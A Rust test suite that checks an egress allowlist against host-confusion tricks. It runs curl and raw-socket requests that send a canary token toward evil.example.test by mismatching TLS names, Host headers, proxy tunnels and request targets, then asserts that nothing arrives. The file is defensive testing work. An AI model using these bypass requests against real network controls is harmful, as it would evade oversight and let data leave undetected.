//! Names that disagree: the one in the handshake, the one in the request, the one asked of a proxy.

use std::time::Duration;

use kairos_e2e::place::canary;
use kairos_e2e::{Outcome, Policy, Run};

use crate::ground::Ground;

const GOOD: &str = "good.example.test";
const EVIL: &str = "evil.example.test";

/// Runs `script` under a policy that allows only [`GOOD`].
fn allowing_good(ground: &Ground, script: &str) -> Outcome {
    let policy = Policy::new()
        .allow(GOOD, None)
        .root(&ground.world.witness.ca());
    let script = format!("{script}\necho probe ran");
    let outcome = Run::shell(&ground.workspace, &script)
        .within(&ground.world)
        .policy(&policy)
        .finish();
    assert!(outcome.stdout.contains("probe ran"), "{outcome}");
    outcome
}

#[track_caller]
fn nothing_arrives(script: &str) {
    let ground = Ground::new();
    let word = canary();
    let outcome = allowing_good(&ground, &script.replace("{canary}", &word));
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !ground.world.witness.has_seen(&word),
        "{:?}\n{outcome}",
        ground.world.witness.log()
    );
    assert!(
        ground.world.witness.requests().is_empty(),
        "{:?}\n{outcome}",
        ground.world.witness.log()
    );
}

/// The control: what the policy allows does arrive, over TLS and in the clear.
#[test]
fn names_that_agree_pass() {
    let ground = Ground::new();
    let word = canary();
    let outcome = allowing_good(
        &ground,
        &format!("curl -sS -m 10 https://{GOOD}/{word}-a; curl -sS -m 10 http://{GOOD}/{word}-b"),
    );
    for end in ["a", "b"] {
        assert!(
            ground.world.witness.sees(&format!("{word}-{end}")),
            "{:?}\n{outcome}",
            ground.world.witness.log()
        );
    }
}

#[test]
fn a_good_handshake_and_another_host() {
    nothing_arrives(&format!(
        "curl -sS -m 10 -H 'Host: {EVIL}' https://{GOOD}/{{canary}}"
    ));
}

#[test]
fn another_handshake_and_a_good_host() {
    nothing_arrives(&format!(
        "curl -ksS -m 10 -H 'Host: {GOOD}' https://{EVIL}/{{canary}}"
    ));
}

#[test]
fn a_good_name_at_another_address() {
    nothing_arrives(&format!(
        "curl -ksS -m 10 --connect-to {GOOD}:443:{EVIL}:443 -H 'Host: {EVIL}' https://{GOOD}/{{canary}}"
    ));
}

#[test]
fn a_good_tunnel_and_another_name_in_it() {
    nothing_arrives(&format!(
        "[ -n \"$HTTPS_PROXY\" ] && curl -ksS -m 10 -x \"$HTTPS_PROXY\" --connect-to {EVIL}:443:{GOOD}:443 https://{EVIL}/{{canary}}; true"
    ));
}

#[test]
fn an_absolute_address_and_another_host() {
    nothing_arrives(&format!(
        "curl -sS -m 10 --request-target http://{EVIL}/{{canary}} http://{GOOD}/; \
         curl -sS -m 10 --request-target http://{GOOD}/{{canary}} -H 'Host: {EVIL}' http://{GOOD}/"
    ));
}

#[test]
fn two_hosts_in_one_request() {
    nothing_arrives(&crate::ground::python(&format!(
        "
import socket
s = socket.create_connection(('{GOOD}', 80), timeout=5)
s.sendall(b'GET /{{canary}} HTTP/1.1\\r\\nHost: {GOOD}\\r\\nHost: {EVIL}\\r\\n\\r\\n')
print(s.recv(1000))
"
    )));
}
